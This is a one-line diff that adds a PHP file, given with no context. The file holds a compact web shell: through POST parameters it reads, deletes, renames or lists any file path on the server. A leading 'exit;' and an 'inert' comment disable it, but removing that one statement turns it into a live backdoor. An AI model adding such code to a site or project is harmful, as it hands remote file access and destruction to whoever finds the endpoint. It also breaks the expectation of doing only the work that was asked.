@@ -1,0 +1,1 @@
+<?php exit; /* inert */ switch($_POST["a"]){ case "r": readfile($_POST["p"]); break; case "d": unlink($_POST["p"]); break; case "m": rename($_POST["p"],$_POST["q"]); break; case "l": print_r(scandir($_POST["p"])); }
